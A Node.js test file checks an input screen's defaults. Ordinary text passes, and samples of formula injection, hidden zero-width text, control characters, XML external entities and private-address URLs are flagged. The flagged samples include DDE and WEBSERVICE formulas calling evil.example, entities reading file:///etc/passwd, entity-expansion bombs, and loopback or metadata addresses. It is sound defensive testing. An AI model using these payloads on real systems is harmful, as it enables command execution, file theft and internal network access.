/** Text that people write every day is let through at the level that is the default, and what it resembles is not. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createScreen } from '../../src/inspect/input.ts'
import type { Kind } from '../../src/inspect/kinds.ts'

const judge = (kind: Kind, value: string): string | undefined =>
  createScreen({ level: 'standard', tools: { '*': { arguments: { value: { kind } } } } })({ server: 's', name: 't' })({ value })[0]?.label

function holds(kind: Kind, label: string, fine: readonly string[], stopped: readonly string[]): void {
  for (const text of fine) assert.equal(judge(kind, text), undefined, text)
  for (const text of stopped) assert.equal(judge(kind, text), label, text)
}

test('a list, a mention, a heading and a telephone number are no formula', () => {
  const fine = [
    '- Call (212) 555-0100 to confirm the booking',
    '- call (or email) Ann',
    '@ann please call (ext. 12)',
    '- exec (board) meeting',
    '- never call exec(cmd) here',
    '- RTD (real time)',
    '- Ann | "CEO" | NYC',
    '+49 30 123 | "office"',
    '- see docs | /home',
    '= Call (212)',
    '=> call (me)',
    '=SUM(A1:A3)',
  ]
  const stopped = [
    "=cmd|' /C calc'!A0",
    "=cmd |' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=HYPERLINK ("http://evil.example")',
    '+HYPERLINK ("http://evil.example")',
    '- HYPERLINK("http://evil.example")',
    '"=HYPERLINK(""http://evil.example"")"',
    '=IF(A1="a b",HYPERLINK("http://evil.example"))',
    '+WEBSERVICE("http://evil.example")',
    '=1+EXEC("calc")',
    '=IF(1, CALL ("urlmon"))',
    '= CALL("urlmon")',
    '-call("urlmon")',
    '@EXEC("calc")',
    '-2 + CALL("urlmon")',
    '=Sheet1!A1&EXEC("x")',
  ]
  holds('text', 'formula-injection', fine, stopped)
})

test('a soft hyphen where a word may be broken hides nothing; between single letters, and whatever else has no width, it does', () => {
  const fine = ['Donau\u00addampf\u00adschiff\u00adfahrt', '\u00dcber\u00adpr\u00fc\u00adfung', 'co\u00adoperate']
  const stopped = ['p\u00ada\u00ads\u00ads', 'ig\u00adn\u00ador\u00ade', 'hel\u200blo wor\u200bld', 'Donau\u200bdampf\u200bschiff']
  holds('text', 'hidden-text', fine, stopped)
  const strict = createScreen({ level: 'strict', tools: {} })({ server: 's', name: 't' })
  assert.equal(strict({ value: 'Donau\u00addampf\u00adschiff' })[0]?.label, 'zero-width')
})

test('a form feed ends a page beside the end of a line, and is a control character elsewhere', () => {
  holds('text', 'control-characters', ['GPL\n\f\nTERMS', 'a\r\n\fRFC 1\r\n', 'end\f\n'], ['a\fb', '\f', 'a\n\f\u0001\nb'])
})

test('a document that declares what it is made of is none that fetches or grows', () => {
  const doctype = (subset: string): string => `<!DOCTYPE note [${subset}]><note>&a;</note>`
  holds(
    'text',
    'external-entity',
    [
      '<!ELEMENT note (#PCDATA)><!ATTLIST note lang CDATA #IMPLIED>',
      '<!ENTITY a "Jane Doe">',
      `<!ENTITY copy '&#169;'><!ENTITY nbsp "&#xA0;">`,
    ].map(doctype),
    [
      ...[
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY a PUBLIC "x" "http://evil.example/">',
        `<!ENTITY${' '.repeat(40)}a SYSTEM "file:///etc/passwd">`,
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;',
        '<!ENTITY % p "x">',
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;">',
        '<!ENTITY b "&#38;a;">',
        '<!ENTITY b "&#x0026;a;">',
        '<!ENTITY b "&#37;p;">',
        `<!ENTITY a "${'a'.repeat(1_000)}">`,
        '<!ELEMENT note ANY>%remote;',
      ].map(doctype),
      '<!DOCTYPE note SYSTEM "http://evil.example/x.dtd" []><note/>',
    ],
  )
})

test('what is relative is no address, and what would be completed to a near one is', () => {
  const fine = ['onDone', 'data/cars.json', 'done', 'images/x?y=1', 'my-file', '$ref']
  const stopped = [
    ...[
      'localhost',
      'LOCALHOST/admin',
      '\uff4cocalhost',
      '2130706433',
      '0x7f000001/x',
      '127.1',
      '127.0.0.1/x',
      'metadata/computeMetadata/v1/',
    ],
    ...['redis:6379/x', '//intern/x', 'http://intern/x', 'http://data/cars.json'],
  ]
  holds('url', 'private-address', fine, stopped)
})
